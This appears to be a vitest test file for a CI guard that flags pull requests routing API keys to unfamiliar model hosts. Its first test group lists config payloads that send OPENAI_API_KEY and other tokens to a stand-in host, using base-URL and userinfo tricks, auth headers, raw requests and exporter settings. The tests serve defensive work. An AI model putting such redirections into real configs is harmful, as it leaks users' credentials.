import { describe, expect, test } from 'vitest';
import { addComment } from '../github/server/github-model.ts';
import { openHub, runJob } from '../support/action-job.ts';
import { type Attack, attack } from '../support/attack.ts';
import { simulatedModels } from '../support/models/drawn-models.ts';
import { rulePrompt, ruleSuite } from '../support/suites/rule-suite.ts';
import { openShop } from '../support/suites/shop.ts';

const CONFIG = 'evals/gear/promptfooconfig.yaml';
const MODEL = 'openai:chat:simulated';
const unbroken = { 'evals/gear/prompt.txt': rulePrompt() };
/** The suite with another provider. */
const asking = (provider: string) => ({
  ...unbroken,
  [CONFIG]: ruleSuite('evals/gear', provider)[CONFIG] ?? '',
});
const at = (settings: string) => `{ id: ${MODEL}, config: { ${settings} } }`;
const elsewhere = asking(at('apiBaseUrl: "https://llm.example.com/v1"'));

describe('a pull request that names another server for the key', () => {
  const ways: readonly (readonly [string, Attack['change']])[] = [
    ['by a base address', asking(at('apiBaseUrl: "https://llm.example.com/v1"'))],
    ['by a bare host', asking(at('apiHost: llm.example.com'))],
    [
      'behind the name of the official one',
      asking(at('apiBaseUrl: "https://api.openai.com@llm.example.com"')),
    ],
    ['without slashes', asking(at('apiBaseUrl: "https:llm.example.com/v1"'))],
    ['in a header of a gateway', asking(at('headers: { x-portkey-custom-host: "https://llm.example.com" }'))],
    [
      'with the key in a header',
      asking(
        '{ id: "https://llm.example.com/chat", config: { headers: { Authorization: "Bearer {{env.OPENAI_API_KEY}}" } } }',
      ),
    ],
    [
      'in a raw request',
      asking(
        '{ id: https, config: { request: "POST /chat HTTP/1.1\\nHost: llm.example.com\\nAuthorization: {{env.OPENAI_API_KEY}}\\n" } }',
      ),
    ],
    [
      'by a variable of its cases',
      {
        ...unbroken,
        [CONFIG]: (asking(at('apiBaseUrl: "https://{{place}}/v1"'))[CONFIG] ?? '').replaceAll(
          'vars: { message',
          'vars: { place: llm.example.com, message',
        ),
      },
    ],
    [
      'by the variables of its config',
      {
        ...unbroken,
        [CONFIG]: `${ruleSuite('evals/gear')[CONFIG]}env: { OPENAI_BASE_URL: "https://llm.example.com/v1" }\n`,
      },
    ],
    [
      'by a setting of its prompt',
      {
        ...unbroken,
        [CONFIG]: (ruleSuite('evals/gear')[CONFIG] ?? '').replace(
          'prompts: [file://prompt.txt]',
          'prompts: [{ id: file://prompt.txt, label: prompt, config: { apiBaseUrl: "https://llm.example.com" } }]',
        ),
      },
    ],
    [
      'by the name of a model behind a retriever',
      {
        ...asking('pawl:rag:rag.yaml'),
        'evals/gear/rag.yaml':
          "retriever: embedded\ncorpus: { files: file://prompt.txt }\nanswer: { model: 'pawl:model:own', prompt: file://prompt.txt }\n",
        'pawl.yaml': `models:\n  own: ${at('apiBaseUrl: "https://llm.example.com/v1"')}\n`,
      },
    ],
    [
      'for a grader',
      {
        ...unbroken,
        [CONFIG]: (ruleSuite('evals/gear')[CONFIG] ?? '').replace(
          'assert: [',
          'assert: [{ type: llm-rubric, value: polite, provider: { id: "openai:chat:judge", config: { apiHost: llm.example.com } } }, ',
        ),
      },
    ],
    [
      'for a model that it names in its policy',
      {
        ...asking('pawl:model:next'),
        'pawl.yaml': `models: { next: { id: "${MODEL}", config: { apiBaseUrl: "https://llm.example.com/v1" } } }\n`,
      },
    ],
    [
      'for a model, whose suite then takes it back',
      {
        ...asking('{ id: "pawl:model:next", config: { apiBaseUrl: "https://api.openai.com/v1" } }'),
        'pawl.yaml': `models: { next: { id: "${MODEL}", config: { apiBaseUrl: "https://llm.example.com/v1" } } }\n`,
      },
    ],
  ];
  const isHeld = async (_name: string, change: Attack['change']) => {
    const { code, document, firstLines, models } = await attack({ change });
    expect([code, document.verdict]).toEqual([1, 'loosened']);
    expect(firstLines).toMatch(/first time that `OPENAI_API_KEY` would go to `llm\.example\.com`/);
    expect(document.suites[0]).toMatchObject({ verdict: 'not-measured', cause: 'new-host' });
    expect(models.requests()).toBe(0);
  };
  test.each(ways.slice(0, 2))('%s: nothing is sent, and the report says so first', (...way) =>
    isHeld(...way),
  );
  // Where each setting sends the key: test/engine/named-hosts.test.ts.
  test.each(ways.slice(2))(
    '%s: nothing is sent, and the report says so first',
    { tags: ['slow'] },
    (...way) => isHeld(...way),
  );

  test('a key of its own, for a model whose suite then takes it back', { tags: ['slow'] }, async () => {
    const { code, firstLines, document } = await attack({
      change: {
        ...asking(
          '{ id: "pawl:model:next", config: { apiBaseUrl: "https://api.openai.com/v1", apiKeyEnvar: OPENAI_API_KEY } }',
        ),
        'pawl.yaml': `models: { next: { id: "${MODEL}", config: { apiBaseUrl: "https://llm.example.com/v1", apiKeyEnvar: ACME_TOKEN } } }\n`,
      },
      env: { ACME_TOKEN: 'acme-0123456789', OPENAI_API_KEY: '' },
    });
    expect([code, document.verdict]).toEqual([1, 'loosened']);
    expect(firstLines).toMatch(/first time that `ACME_TOKEN` would go to `llm\.example\.com`/);
  });

  test('for the key of the job’s traces, in the headers of their exporter', async () => {
    const { code, firstLines, document } = await attack({
      change: {
        ...unbroken,
        [CONFIG]: `${ruleSuite('evals/gear')[CONFIG]}env: { OTEL_EXPORTER_OTLP_ENDPOINT: "https://llm.example.com" }\n`,
      },
      env: { OTEL_EXPORTER_OTLP_HEADERS: 'authorization=Bearer traces-0123456789', OPENAI_API_KEY: '' },
    });
    expect([code, document.verdict]).toEqual([1, 'loosened']);
    expect(firstLines).toMatch(
      /first time that `OTEL_EXPORTER_OTLP_HEADERS` would go to `llm\.example\.com`/,
    );
  });

  test('is not green either where main lets looser rules pass', async () => {
    const { code, models } = await attack({
      main: { 'pawl.yaml': 'loosening: warn\nnotMeasured: { secrets: warn, provider: warn }\n' },
      change: elsewhere,
    });
    expect([code, models.requests()]).toEqual([3, 0]);
  });
});

describe('a server that is not a surprise', () => {
  const measured = async (change: Record<string, string>, main = {}, env = {}) => {
    const { code, document, models } = await attack({ main, change, env });
    expect([code, document.verdict, document.ruleChanges]).toEqual([0, 'pass', []]);
    expect(models.requests()).toBeGreaterThan(0);
  };

  test("is the model's own", () =>
    measured(asking(at('apiBaseUrl: "https://api.openai.com/v1", temperature: 0'))));

  test('is one that main’s suite names', () =>
    measured(asking(at('apiBaseUrl: "https://llm.example.com/v2"')), elsewhere));

  test('is one that another suite of main names', () =>
    measured(elsewhere, ruleSuite('evals/boots', at('apiHost: llm.example.com'))));

  test('is one that main’s policy names', () =>
    measured(elsewhere, {
      'pawl.yaml': `models: { now: { id: "${MODEL}", config: { apiBaseUrl: "https://llm.example.com" } } }\n`,
    }));

  test('is one that the job names', () =>
    measured(elsewhere, {}, { LLM_GATEWAY_URL: 'https://llm.example.com/v1' }));

  test('is one on this machine that a model of the policy names', () =>
    measured({
      ...asking('pawl:model:next'),
      'pawl.yaml': `models: { next: { id: "${MODEL}", config: { apiBaseUrl: "http://localhost:4000/v1" } } }\n`,
    }));

  test('is one on this machine', () => measured(asking(at('apiBaseUrl: "http://localhost:4000/v1"'))));

  test('is none: a file of its settings', () =>
    measured({ ...asking(at('tools: file://tools.json')), 'evals/gear/tools.json': '[]\n' }));

  test('is one that gets no key', () =>
    measured(
      asking(
        '{ id: "https://llm.example.com/chat", config: { headers: { Accept: text/plain }, body: { text: "{{prompt}}" } } }',
      ),
    ));
});

test('a server that somebody accepts is asked by the next run, and another one is not', {
  tags: ['slow'],
}, async () => {
  const models = simulatedModels();
  const shop = await openShop({ ...ruleSuite('evals/gear'), 'pawl.yaml': '{}\n' });
  const hub = await openHub();
  Object.assign(hub.model.permissions, { ada: 'admin', kim: 'write' });
  const run = async (files: Record<string, string>) => {
    const commits = shop.change(files);
    hub.model.pullRequest.head = commits.head;
    const env = { OPENAI_API_KEY: 'sk-simulated-0000' };
    const job = await runJob(shop, hub, { event: 'pull_request.synchronize.json', commits, models, env });
    const own = hub.model.comments.find(({ author }) => author === 'github-actions[bot]')?.body ?? '';
    const [, id = ''] = /\/pawl accept ([0-9a-f]{16}) -- why/.exec(own) ?? [];
    return { verdict: job.outputs.verdict, own, id };
  };
  const first = await run(elsewhere);
  expect([first.verdict, models.requests()]).toEqual(['loosened', 0]);
  addComment(hub.model, 'kim', `/pawl accept ${first.id} -- our new gateway`);
  const second = await run(elsewhere);
  expect(second.verdict).toBe('pass');
  expect(second.own).toContain('our new gateway');
  const asked = models.requests();
  expect(asked).toBeGreaterThan(0);
  const third = await run(asking(at('apiHost: other.example.com')));
  expect([third.verdict, models.requests()]).toEqual(['loosened', asked]);
});
